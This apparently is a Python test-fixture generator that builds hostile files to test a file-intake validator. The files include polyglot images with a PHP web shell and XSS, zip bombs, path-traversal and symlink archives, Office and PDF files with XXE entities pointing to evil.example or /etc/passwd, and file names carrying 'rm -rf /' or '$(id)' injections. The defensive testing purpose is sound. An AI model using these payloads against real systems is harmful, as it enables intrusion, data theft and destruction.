"""Hostile files, generated: always the same ones, in groups by what is wrong with them."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator

from tests.evidence import samples, scanners

File = tuple[str, bytes]
MIB = 1024 * 1024
SCRIPTS = (
    b"<?php system($_GET['c']); ?>", b"<script>alert(1)</script>", b"<html><body onload=alert(1)>", b"<svg onload=alert(1)>", b"#!/bin/sh\nid\n",
    b"<!DOCTYPE html><iframe src=x>", b";function(){eval('x')}",
)  # fmt: skip
OUTSIDE = ("../x", "a/../../x", "/etc/passwd", "C:\\x", "..\\..\\x", "\\\\server\\share", "CON", "aux.txt", "a/nul", "x/../../../../y")


def lying() -> Iterator[File]:
    """Every file that we take, under endings that are not its own."""
    endings = ("jpg", "pdf", "docx", "txt", "zip", "exe", "svg")
    for name, content in samples.taken().items():
        stem, _dot, own = name.rpartition(".")
        for ending in endings:
            if {own, ending} not in ({"ofd", "zip"}, {"txt", "csv"}, {own}) and not (ending == "txt" and own == "eml"):
                yield f"{stem}.{ending}", content


def acting() -> Iterator[File]:
    """Pages, scripts and programs, under their own name, as pictures and as text."""
    programs = (b"MZ\x90\0" + bytes(100), b"\x7fELF\x02\x01" + bytes(60), b"\xca\xfe\xba\xbe" + bytes(60), b"L\0\0\0\x01\x14\x02\0" + bytes(60))
    pages = (b"<svg xmlns='x'/>", b"<html></html>", b"<?xml version='1.0'?><x/>", b"\xef\xbb\xbf<!doctype html>", b"<?php phpinfo();", b"#!/usr/bin/python\n")
    for place, content in enumerate((*programs, *pages)):
        for name in ("a.svg", "a.html", "a.exe", "a.jpg", "a.png", "a.pdf", "a.txt", "a.docx"):
            yield f"{place}{name}", content
    for name in ("a.js", "a.bat", "a.vbs", "a.ps1", "a.hta", "a.jpg.js", "a.pdf.exe", "a", "a.", "a.jpg.", "a.jpg ", "a.\u202egpj"):
        yield name, b"WScript.Echo 1\r\n"


def polyglots() -> Iterator[File]:
    """Pictures and PDFs that are something else at the same time."""
    jpeg, png, pdf = samples.picture(), samples.picture("PNG"), samples.pdf()
    for place, script in enumerate(SCRIPTS):
        yield f"{place}.jpg", jpeg + script
        yield f"{place}.jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script + jpeg[2:]
        yield f"{place}.png", png + script
        yield f"{place}.pdf", pdf[:9] + b"% " + script + b"\n" + pdf[9:]
        yield f"{place}.pdf", b"GIF89a" + script + pdf
    for inner in (samples.archive(("a.html", b"<script>")), samples.word(), samples.archive(("META-INF/MANIFEST.MF", b"x"))):
        yield from (("z.jpg", jpeg + inner), ("z.png", png + inner), ("z.pdf", pdf + inner), ("z.zip", jpeg + inner), ("z.docx", pdf + inner))
    yield "p.jpg", jpeg[:2] + b"\xff\xfe\x00\x0c%PDF-1.7\n\n" + jpeg[2:]
    yield "g.jpg", b"GIF89a=1;alert(1)//" + jpeg


def bombs() -> Iterator[File]:
    """What is small here and huge when it is opened."""
    yield "a.zip", samples.archive(("a", bytes(40 * MIB)))
    yield "a.docx", samples.office_with(samples.word(), ("word/document.xml", b" " * (30 * MIB)))
    nested = samples.archive(("a", b"a"))
    for depth in range(2, 11):
        nested = samples.archive((f"{depth}.zip", nested))
        if depth > 2:
            yield f"{depth}层.zip", nested
    for width, height in ((20_000, 20_000), (12_000, 12_000), (65_000, 65_000), (2**31 - 1, 2**31 - 1), (120_000_001, 1)):
        if width == height and width < 30_000:
            yield f"{width}.png", samples.png_of(width, height)
        head = samples.picture("PNG")
        yield f"{width}h.png", head[:16] + struct.pack(">LL", width, height) + head[24:]
        yield f"{width}.bmp", (bmp := samples.picture("BMP"))[:18] + struct.pack("<ll", min(width, 2**31 - 1), -height) + bmp[26:]
    jpeg = samples.picture()
    at = jpeg.index(b"\xff\xc0")
    yield "a.jpg", jpeg[: at + 5] + struct.pack(">HH", 65_500, 65_500) + jpeg[at + 9 :]
    yield "a.webp", b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\xff\xff" * 2 + bytes(20)
    entry = struct.pack("<HHLL", 256, 4, 1, 2**31) + struct.pack("<HHLL", 257, 4, 1, 2**31)
    yield "a.tif", b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + entry + bytes(4)
    yield "o.tif", b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + entry[:12] + struct.pack("<HHLL", 257, 4, 1, 1) + struct.pack("<L", 8)
    yield "many.zip", samples.archive(*((f"{n}", b"") for n in range(10_001)))
    small = samples.archive(("a", b"a" * 100), ("b", b"b" * 100), packed=False)
    end = small.rindex(b"PK\x05\x06")
    for lie in (struct.pack("<HH", 65_535, 65_535), struct.pack("<HH", 1, 1), struct.pack("<HH", 0, 2)):
        yield "count.zip", small[: end + 8] + lie + small[end + 12 :]
    first, second = small.index(b"PK\x01\x02"), small.rindex(b"PK\x01\x02")
    for lie in (2**32 - 1, 2**31, 99, 0):
        yield "size.zip", small[: second + 24] + struct.pack("<L", lie) + small[second + 28 :]
        yield "packed.zip", small[: second + 20] + struct.pack("<L", lie) + small[second + 24 :]
        yield "place.zip", small[: second + 42] + struct.pack("<L", lie) + small[second + 46 :]
    yield "same.zip", small[: second + 42] + small[first + 42 : first + 46] + small[second + 46 :]
    yield "words.txt", b"\0" * MIB


def outside() -> Iterator[File]:
    """Archives that would write elsewhere, through links or onto devices."""
    for place, name in enumerate(OUTSIDE):
        yield f"{place}.zip", samples.archive((name, b"x"))
        yield f"{place}.docx", samples.office_with(samples.word(), (name, b"x"))
    plain = samples.archive(("a", b"/etc/passwd"))
    at = plain.rindex(b"PK\x01\x02")
    for mode in (0o120777, 0o060600, 0o020600, 0o010600, 0o140600):
        yield f"{mode:o}.zip", plain[: at + 5] + b"\x03" + plain[at + 6 : at + 38] + struct.pack("<L", mode << 16) + plain[at + 42 :]


def documents() -> Iterator[File]:
    """Macros, objects, launches, outside references and entities."""
    word, excel = samples.word(), samples.excel()
    for part in ("vbaProject.bin", "embeddings/oleObject1.bin", "activeX/activeX1.bin"):
        yield "a.docm", samples.office_with(word, (f"word/{part}", b"x"))
        yield "a.docx", samples.office_with(word, (f"word/{part}", b"x"))
        yield "a.xlsm", samples.office_with(excel, (f"xl/{part}", b"x"))
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        link = f'<Relationships><Relationship Id="9" Type="http://schemas/{kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'
        yield "b.docx", samples.office_with(word, ("word/_rels/settings.xml.rels", link.encode()))
    for dtd in (
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>', '<!DOCTYPE a [<!ENTITY % b SYSTEM "gopher://x">%b;]>',
    ):  # fmt: skip
        for coding in ("utf-8", "utf-16-le", "utf-16-be"):
            content = f'<?xml version="1.0"?>{dtd}<x>&b;</x>'.encode(coding)
            yield "c.docx", samples.office_with(word, ("word/document.xml", content))
            yield "c.xlsx", samples.office_with(excel, ("xl/workbook.xml", content))
    for macro in ("Macros", "VBA", "_VBA_PROJECT_CUR", "\x01Ole10Native", "ObjectPool", "EncryptedPackage"):
        yield "d.doc", samples.ole("WordDocument", macro)
        yield "d.xls", samples.ole("Workbook", macro)
    for action in (b"/S /JavaScript /JS (x)", b"/S /Launch /F (cmd)", b"/S/J#61vaScript", b"/S /#4caunch", b"/S /RichMedia", b"/S /ImportData", b"/S /Rendition"):
        yield "e.pdf", samples.pdf(b"<< " + action + b" >>")
        yield "f.pdf", samples.pdf(samples.packed_objects(b"1 0 << " + action + b" >>"))
    yield from (("g.pdf", samples.pdf(trailer=b"/Encrypt 9 0 R")), ("h.pdf", samples.pdf(b"<< /Type /EmbeddedFile >>")))


def closed() -> Iterator[File]:
    """7z and RAR archives, which nobody opens: with programs, encrypted, cut, boundless, under another name, behind a picture."""
    seven = b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<LQQL", 0, 40, 30, 0) + bytes(40) + "木马.exe".encode("utf-16-le")
    boundless = b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<LQQL", 0, 2**63 - 1, 2**63 - 1, 0)
    encrypted = b"Rar!\x1a\x07\x01\0" + b"\x00\x00\x00\x00\x21\x04" + bytes(33)
    old = b"Rar!\x1a\x07\0" + b"\xcf\x90\x73\0\0\x0d" + bytes(7) + b"\x74\xa0\x90../../autorun.exe"
    for ending, contents in {"7z": (seven, boundless, seven[:7]), "rar": (encrypted, old, old[:8])}.items():
        for content in contents:
            yield f"a.{ending}", content
            yield "b.jpg", content
            yield "c.zip", content
            yield "d.jpg", samples.picture() + content
            yield "e.jpg", samples.picture() + content + bytes(200_000)
            yield "f.pdf", samples.pdf() + content
            yield f"g.{ending}", b"MZ" + bytes(62) + content
            yield "h.zip", samples.archive((f"b.{ending}", content))


def viruses() -> Iterator[File]:
    """EICAR, plain, in archives and behind a picture."""
    packed = samples.archive(("x.com", scanners.EICAR), packed=False)
    yield from (("a.txt", scanners.EICAR), ("b.zip", packed), ("c.jpg", samples.picture() + scanners.EICAR))
    yield "d.zip", samples.archive(("b.zip", packed), packed=False)


def cut() -> Iterator[File]:
    """Every file that we take, ended too early."""
    for name, content in samples.taken().items():
        for part in (0.1, 0.5, 0.9):
            if 0 < (length := int(len(content) * part)) < len(content):
                yield name, content[:length]


def flipped() -> Iterator[File]:
    """Files with some of their bits turned."""
    chance = random.Random(20261123)
    names = ("现场照片.jpg", "截图.png", "图.webp", "扫描.tif", "扫描.bmp", "询问笔录（一）.pdf", "报告.docx", "旧文书.doc", "资料.zip", "清单.csv")
    for name in names:
        content = samples.taken()[name]
        for _ in range(9):
            turned = bytearray(content)
            for _bit in range(chance.choice((1, 5, 40))):
                place = chance.randrange(min(len(turned), 4096)) if chance.random() < 0.7 else chance.randrange(len(turned))
                turned[place] ^= 1 << chance.randrange(8)
            yield name, bytes(turned)


def noise() -> Iterator[File]:
    """Beginnings that promise something, with noise behind them."""
    chance = random.Random(41)
    for name, content in samples.taken().items():
        for length in (30, 5_000):
            yield name, content[: min(len(content), 16)] + chance.randbytes(length)


def names() -> Iterator[File]:
    """Names that are the attack."""
    for name in (
        "../../../etc/passwd.pdf", "..\\..\\windows.pdf", "/abs.pdf", "C:\\x.pdf", "a\x00.pdf", "a\n.pdf", "a\r\nSet-Cookie: x.pdf", "\u202efdp.exe.pdf",
        "CON.pdf", "nul.pdf", "a" * 296 + ".pdf", "a" * 600 + ".pdf", " .pdf", ".pdf", "询问笔录（一）.pdf", "A&B<公司>.pdf", "{{7*7}}.pdf", '"; rm -rf /;".pdf',
        "$(id).pdf", "%00.pdf", "%2e%2e%2f.pdf", "a;b.pdf", "𠮷㐂.pdf", "é.pdf", "e\u0301.pdf", "\ud800.pdf", "", "   ", "file:///x.pdf", "a?b*c|d.pdf", "\u2028.pdf",
    ):  # fmt: skip
        yield name, samples.pdf()


NEVER_OPEN: dict[str, Callable[[], Iterator[File]]] = {
    "lying": lying, "acting": acting, "polyglots": polyglots, "bombs": bombs, "outside": outside, "documents": documents, "closed": closed,
    "viruses": viruses,
}  # fmt: skip
"""Groups of which every file is refused or kept sealed."""
MAY_BE_SOUND: dict[str, Callable[[], Iterator[File]]] = {"cut": cut, "flipped": flipped, "noise": noise, "names": names}
"""Groups of which some files may be what they say in spite of all."""
GROUPS = {**NEVER_OPEN, **MAY_BE_SOUND}
